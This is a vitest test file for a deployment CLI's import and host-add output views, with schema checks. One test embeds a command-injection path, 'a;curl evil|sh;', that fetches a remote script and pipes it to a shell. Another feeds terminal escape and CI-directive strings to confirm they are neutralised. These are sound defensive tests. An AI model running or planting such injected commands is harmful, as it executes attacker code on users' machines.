/** import and host add as a person sees them, and their documents against their schemas. */
import { readFileSync } from 'node:fs';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { describe, expect, it } from 'vitest';
import type { HostAddResult } from '../../src/flows/host-add.js';
import type { ImportResult, ImportRow } from '../../src/flows/import.js';
import { hostAddJson, hostAddText, hostKeyText } from '../../src/views/host-add.js';
import { importJson, importText } from '../../src/views/import.js';
import { hostConfig } from '../doctor/parts.js';

const PLAIN = { colour: false, full: false, now: null, terminal: false };
const valid = (schema: string, document: object): void => {
  const ajv = new Ajv2020();
  ajv.validate(JSON.parse(readFileSync(`schemas/${schema}.schema.json`, 'utf8')), JSON.parse(JSON.stringify(document)));
  expect(ajv.errors).toBeNull();
};

const row = (over: Partial<ImportRow>): ImportRow => ({
  project: 'immich',
  service: 'server',
  module: 'immich-server',
  verdict: 'adoptable',
  exceptions: [],
  why: null,
  fix: null,
  ...over,
});
const socket = { rule: 'docker_socket', value: '/var/run/docker.sock' };
const RESULT: ImportResult = {
  host: 'rs2000',
  rows: [
    row({ service: 'database', module: 'immich-database' }),
    row({}),
    row({
      project: 'old',
      service: 'web',
      module: null,
      verdict: 'cannot',
      why: 'it was made from several compose files: /opt/a.yaml,/opt/b.yaml',
      fix: 'join them into one',
    }),
    row({
      project: 'old',
      service: 'worker',
      module: null,
      verdict: 'cannot',
      why: 'it was made from several compose files: /opt/a.yaml,/opt/b.yaml',
      fix: 'join them into one',
    }),
    row({ project: 'proxy', service: 'proxy', module: 'proxy-proxy', verdict: 'exception', exceptions: [socket] }),
    row({
      project: 'web',
      service: 'api',
      module: 'api',
      verdict: 'declared',
      why: 'managed by platformctl: module api',
    }),
    row({ project: 'web', service: 'web', module: 'web', verdict: 'declared' }),
  ],
  files: [
    { path: 'hosts/rs2000/immich/compose.yaml', state: 'written' },
    { path: 'modules/immich/stack.yaml', state: 'written' },
    { path: 'hosts/rs2000/proxy/compose.yaml', state: 'kept' },
    { path: 'modules/proxy/stack.yaml', state: 'written' },
  ],
  allow: ['- { module: proxy-proxy, rule: docker_socket, value: /var/run/docker.sock, reason: "say why" }'],
  warnings: [],
};

describe('import', () => {
  it('its document follows its schema', () => valid('import', importJson(RESULT)));

  it('nothing there', async () => {
    const nothing = { host: 'rs2000', rows: [], files: [], allow: [], warnings: [] };
    expect(importText(nothing, PLAIN)).toBe('0 services on rs2000: 0 adoptable as is, 0 with an exception, 0 cannot\n');
    valid('import', importJson(nothing));
  });

  it('X-2 a folder of the host is one word of the line that is printed to be run', () => {
    const files = [{ path: 'a;curl evil|sh;/compose.yaml', state: 'written' as const }];
    expect(importText({ ...RESULT, files }, PLAIN)).toContain("git add -- 'a;curl evil|sh;' && ");
  });

  it('O-5 names and reasons from a host do nothing on a terminal', () => {
    const hostile = '\x1b]0;owned\x07\n::set-output::\u202e';
    const rows = [
      row({ project: hostile, service: hostile, module: null, verdict: 'cannot', why: hostile, fix: hostile }),
    ];
    const text = importText({ ...RESULT, rows, files: [{ path: hostile, state: 'written' }], allow: [hostile] }, PLAIN);
    expect(text).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
    expect(text).not.toMatch(/^\s*::/m);
  });
});

describe('host add', () => {
  const result: HostAddResult = {
    host: hostConfig({ name: 'nas', address: '192.0.2.7', port: 2222 }),
    hostKey: { kind: 'ssh-ed25519', fingerprint: `SHA256:${'a'.repeat(43)}`, line: 'ssh-ed25519 AAAA' },
    asRoot: ['useradd ...', 'install -d ...'],
    next: ['platformctl host check nas'],
  };
  it('the key, and what was done', async () => {
    const shown = hostKeyText({ address: '192.0.2.7', port: 2222, ...result.hostKey });
    await expect(`${shown}${hostAddText(result)}`).toMatchFileSnapshot('golden/host-add.txt');
    valid('host-add', hostAddJson(result));
  });
});
